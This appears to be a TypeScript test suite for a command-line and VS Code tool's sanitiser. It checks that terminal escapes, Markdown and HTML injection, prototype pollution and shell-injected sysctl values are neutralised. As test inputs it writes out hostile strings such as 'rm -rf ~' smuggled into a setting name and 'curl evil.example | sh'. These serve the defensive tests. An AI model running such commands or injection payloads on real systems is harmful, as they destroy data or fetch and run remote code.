import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it, test } from 'node:test';
import { restoreText } from '../../src/cli/host.js';
import { summaryText } from '../../src/cli/summaryText.js';
import { table } from '../../src/cli/table.js';
import { boundedLine, harmless, htmlText, markdownText, messageText, parseForeign, plainLine, plainText, settingCommand } from '../../src/core/foreignText.js';
import { reportText } from '../../src/history/report.js';
import { savedRun } from './builders/samples.js';

const root = join(import.meta.dirname, '..', '..');
/** Clears the screen, sets the title, rings, hides by DEL, C1 and a tag, turns the direction, breaks a line twice. */
const attack = '\u001b[2J\u001b]0;owned\u0007\u009b1m\u007f\u202egnp\u2028x\u{e0041}\ud800';
const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2028\u2029\u{e0000}-\u{e007f}]|\p{Surrogate}/u;

describe('foreign text', () => {
  const cases: [name: string, actual: string, expected: string][] = [
    ['a terminal: controls are shown, lines stay', plainText('a\u001b[31mb\tc\nd\u009b'), 'a\\u001b[31mb\tc\nd\\u009b'],
    ['one line: so do line feeds', plainLine('done\nc10m: all is well\r\nx\ry'), 'done ⏎ c10m: all is well ⏎ x\\u000dy'],
    ['letters of all the world stay', plainLine('Grüße, 世界, שלום, 👩‍🚀 – “x”'), 'Grüße, 世界, שלום, 👩‍🚀 – “x”'],
    ['Markdown: no link, no table cell, no HTML', markdownText('[x](javascript:alert(1)) | <b> `c`'), '\\[x\\](javascript:alert(1)) \\| \\<b\\> \\`c\\`'],
    [
      'Markdown: no address that becomes a link',
      markdownText('https://evil.example www.evil.example a@b.c'),
      'https\\://evil.example www\\.evil.example a\\@b.c',
    ],
    ['Markdown: no heading on a new line, no icon, no entity', markdownText('x\n# y $(bug) &lt;'), 'x ⏎ \\# y \\$(bug) \\&lt;'],
    ['HTML and XML', htmlText('<img src=x onerror="alert(1)">\u0000&\''), '&lt;img src=x onerror=&quot;alert(1)&quot;&gt;\\u0000&amp;&#39;'],
    ['messages of VS Code: no command link, no icon', messageText('[ok](command:x) $(bug)\nline'), '[ok] (command:x) $ (bug)\nline'],
    ['a long text is cut, and says so', boundedLine('x'.repeat(50), 10), `${'x'.repeat(10)}… (40 more characters)`],
  ];
  for (const [name, actual, expected] of cases) it(name, () => assert.equal(actual, expected));

  it('cleans keys and values of a message, drops __proto__, and refuses what is nested without end', () => {
    const value = parseForeign(`{"a\\u001b":"x\\ny","b":["\\u009b",1,null,true],"__proto__":{"polluted":1},"tab":"4096\\t8192"}`);
    assert.deepEqual(value, { 'a\\u001b': 'x ⏎ y', b: ['\\u009b', 1, null, true], tab: '4096\t8192' });
    assert.equal(({} as { polluted?: number }).polluted, undefined);
    assert.equal(parseForeign('['.repeat(100_000) + ']'.repeat(100_000)), undefined);
    assert.equal(parseForeign('{"a":'), undefined);
    assert.equal((harmless({ a: 'x'.repeat(100_000) }) as { a: string }).a.length < 17_000, true);
    assert.deepEqual(parseForeign('{"plain":"text"}'), { plain: 'text' });
    assert.equal((parseForeign(`{"raw":"\u009b\u202e"}`) as { raw: string }).raw, '\\u009b\\u202e');
  });

  it('makes the same JSON of JSON', () => {
    const json = JSON.stringify({ text: `a${attack.slice(0, -1)}b` });
    assert.deepEqual(JSON.parse(plainText(json)), JSON.parse(json));
  });

  const commands: [key: string, value: string, expected: string | undefined][] = [
    ['fs.file-max', '1000', "sysctl -w 'fs.file-max=1000'"],
    ['net.ipv4.tcp_rmem', '4096\t131072\t6291456', "sysctl -w 'net.ipv4.tcp_rmem=4096 131072 6291456'"],
    ['net.ipv4.ip_local_reserved_ports', '8000-8100,9000', "sysctl -w 'net.ipv4.ip_local_reserved_ports=8000-8100,9000'"],
    ["fs.file-max'; rm -rf ~; '", '1', undefined],
    ['fs.file-max', "1'; rm -rf ~ #", undefined],
    ['fs.file-max', '1\n2', undefined],
    ['fs.file-max\n', '1', undefined],
    ['--system', '1', undefined],
  ];
  for (const [key, value, expected] of commands)
    it(`the command for ${JSON.stringify(key)} = ${JSON.stringify(value)}`, () => assert.equal(settingCommand(key, value), expected));
});

test('a hostile restore report prints no command of its own, and no control', () => {
  const report = {
    runs: [attack],
    keys: [
      { key: 'fs.file-max', original: '1000', ours: '2000', now: '2000', outcome: 'refused' as const },
      { key: 'x; curl evil | sh', original: attack, ours: '1', now: null, outcome: 'refused' as const },
    ],
    processesEnded: 0,
    commands: ['curl evil.example | sh'],
    notes: [attack],
    complete: false,
  };
  const shown = restoreText(report);
  assert.match(shown, /sysctl -w 'fs\.file-max=1000'/);
  assert.doesNotMatch(shown.slice(shown.indexOf('To do it by hand')), /curl/);
  assert.doesNotMatch(shown, controls);
});

test('a hostile run leaves by no report and no table with a control or with markup', () => {
  const name = `${attack} <script>alert(1)</script> [x](javascript:alert(1)) | y\n# z`;
  const run = savedRun('r', {}, { reason: name, walls: [{ id: 'unknown', title: name, at: 1, evidence: name, remedy: name }] });
  run.name = name;
  const reported = [{ run, samples: [] }];
  const html = reportText('html', reported);
  const markdown = reportText('md', reported);
  for (const text of [html, markdown, table([[name, name]]), summaryText({ summary: run.summary, spec: run.spec, runId: 'r' }, '/x')])
    assert.doesNotMatch(text, controls);
  assert.doesNotMatch(html, /<script/);
  assert.doesNotMatch(markdown, /[^\\]<script|[^\\]\[x|\n# z/);
});

test('foreign text leaves only where it is made harmless', () => {
  const files = [
    'src/cli.ts',
    ...['src/cli', 'src/vscode', 'src/run', 'src/history', 'src/transport'].flatMap((folder) =>
      readdirSync(join(root, folder), { recursive: true })
        .map((name) => `${folder}/${String(name)}`)
        .filter((name) => name.endsWith('.ts')),
    ),
  ];
  const doors: [exit: RegExp, allowed: string[]][] = [
    [/process\.std(out|err)\.write/, ['src/cli/output.ts']],
    [/drawScreen\(/, ['src/cli/output.ts', 'src/cli/liveView.ts']],
    [/window\.show(Error|Warning|Information)Message/, ['src/vscode/messages.ts']],
    [/console\./, []],
  ];
  for (const [exit, allowed] of doors) {
    const found = files.filter((file) => exit.test(readFileSync(join(root, file), 'utf8')));
    assert.deepEqual(
      found.filter((file) => !allowed.includes(file)),
      [],
      String(exit),
    );
  }
  for (const file of files) {
    const text = readFileSync(join(root, file), 'utf8');
    if (/new MarkdownString/.test(text)) assert.match(text, /markdownText\(/, file);
  }
});
